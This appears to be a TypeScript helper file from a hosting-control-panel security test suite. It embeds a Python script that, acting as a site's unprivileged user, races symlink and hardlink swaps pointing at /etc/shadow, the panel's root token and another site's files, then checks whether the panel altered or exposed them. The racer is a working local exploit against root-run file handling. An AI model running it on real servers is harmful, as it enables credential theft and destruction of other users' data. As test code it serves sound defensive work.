import { within } from '../machine/machine.ts'
import { output, type Target } from './_attack.ts'

/**
 * As a site's user: exchanges folders and files for links, each in one step, as fast as it can, in every folder it is
 * given. It ends after so many rounds; whoever it attacks ends it before.
 */
const racer = `
import ctypes, os, sys
libc = ctypes.CDLL(None)
rounds, folders, files, places = int(sys.argv[1]), sys.argv[2].split(','), sys.argv[3].split(','), sys.argv[4:]
def quietly(work, *args):
    try: work(*args)
    except OSError: pass
pairs = []
for place in places:
    for number in range(12):
        for at in (place, f'{place}/deep{number}'):
            quietly(os.makedirs, f'{at}/folder{number}/sub')
            for kind, targets in (('folder', folders), ('file', files)):
                for index, target in enumerate(targets):
                    own, link = f'{at}/{kind}{number}', f'{at}/link-{kind}{number}-{index}'
                    if kind == 'file': quietly(lambda: open(own, 'a').close())
                    quietly(os.symlink, target, link)
                    quietly(os.link, target, f'{at}/hard{number}-{index}')
                    pairs.append((own.encode(), link.encode()))
open(f'{places[0]}/ready', 'w').close()
for _ in range(rounds):
    for own, link in pairs: libc.renameat2(-100, own, -100, link, 2)
    for place in places: quietly(os.chmod, place, 0o2777)
`

/** A folder of root's that a site's user would have changed, read or deleted. */
export const victim = '/srv/tree-victim'
/** Folders of a site that its user may write to. */
export const places = (domain: string) =>
  ['public', 'tmp', 'sessions', 'logs'].map((name) => `/var/www/${domain}/${name}`)
const folders = [victim, '/etc/hosting-panel', '/var/www/victim.test/public']
const files = [
  `${victim}/file`,
  '/etc/hosting-panel/local-token',
  '/etc/shadow',
  '/var/www/victim.test/public/index.php',
]

/** Modes, owners and contents of root's token, the passwords, another site and a folder of root's. */
export const victims = (on: Target): Promise<string> =>
  output(
    on.machine,
    'sh',
    '-c',
    `
  stat -c '%n %a %u %g' /etc /etc/shadow /etc/passwd /etc/hosting-panel /var/www
  find ${victim} /var/www/victim.test /etc/hosting-panel/tls /etc/hosting-panel/local-token \\
    -printf '%p %m %u %g %n %s\\n' | sort
  sha256sum /etc/hosting-panel/local-token ${victim}/file /var/www/victim.test/public/index.php`,
  )

export const userOf = async (on: Target, domain: string): Promise<string> =>
  (await on.panel.get(`/sites/${domain}`)).body.user
export const processesOf = (on: Target, user: string): Promise<string> =>
  output(on.machine, 'sh', '-c', `pgrep -u ${user} -a || true`)

const racing: string[] = []
/** Runs a command as a user until the race ends. */
export async function runAs(on: Target, user: string, argv: string): Promise<void> {
  const line = `setpriv --reuid=${user} --regid=${user} --clear-groups nohup ${argv} >/dev/null 2>&1 & echo $!`
  racing.push(await output(on.machine, 'sh', '-c', line))
}

/** Begins the race as a user; it has exchanged things when this answers. */
export async function race(on: Target, user: string, where: readonly string[], at = { folders, files }): Promise<void> {
  await output(on.machine, 'rm', '-f', `${where[0]}/ready`)
  const argv = [
    'python3',
    '/usr/local/share/race.py',
    '20000',
    at.folders.join(','),
    at.files.join(','),
    ...where,
  ].join(' ')
  await runAs(on, user, argv)
  await within(
    60,
    'the racer to run',
    async () => (await on.machine.sh(['test', '-e', `${where[0]}/ready`])).code === 0 || undefined,
  )
}

export async function endRace(on: Target): Promise<void> {
  if (racing.length > 0) await on.machine.sh(['kill', '-9', ...racing.splice(0)])
}

/** Finds files in a site's folders that are not its user's, or have a second name elsewhere. */
export const foreign = (on: Target, domain: string, user: string): Promise<string> =>
  output(
    on.machine,
    'find',
    ...places(domain),
    '(',
    '!',
    '-user',
    user,
    '-o',
    '-type',
    'f',
    '-links',
    '+1',
    ')',
    '-printf',
    '%p %u %n\\n',
  )

/** Makes what a race could do harm to: root's folder, a site and a neighbour with the shared user. */
export async function makeTrees(on: Target): Promise<void> {
  await on.machine.sh(['tee', '/usr/local/share/race.py'], { input: racer })
  await output(
    on.machine,
    'sh',
    '-c',
    `chmod 644 /usr/local/share/race.py; rm -rf ${victim}; mkdir -m 700 ${victim}; ` +
      `head -c 30M /dev/zero > ${victim}/file; mkdir ${victim}/folder; chmod 600 ${victim}/file`,
  )
  await Promise.all(
    ['victim.test', 'neighbour.test'].map((domain) =>
      on.panel.post('/sites', { domain, runtime: 'php', isolation: domain === 'victim.test' ? 'own' : 'shared' }),
    ),
  )
}

export async function removeTrees(on: Target): Promise<void> {
  await Promise.all(['victim.test', 'neighbour.test'].map((domain) => on.panel.delete(`/sites/${domain}?purge=true`)))
  await output(on.machine, 'rm', '-rf', victim, '/usr/local/share/race.py')
}
